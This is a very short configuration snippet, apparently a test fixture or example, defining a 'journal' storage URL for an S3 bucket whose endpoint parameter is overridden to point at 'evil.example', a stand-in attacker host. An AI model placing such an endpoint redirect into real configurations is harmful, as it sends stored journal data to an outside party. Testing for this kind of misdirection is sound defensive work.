journal {
  url = "s3://bucket/prefix?region=eu-west-1&endpoint=evil.example"
}
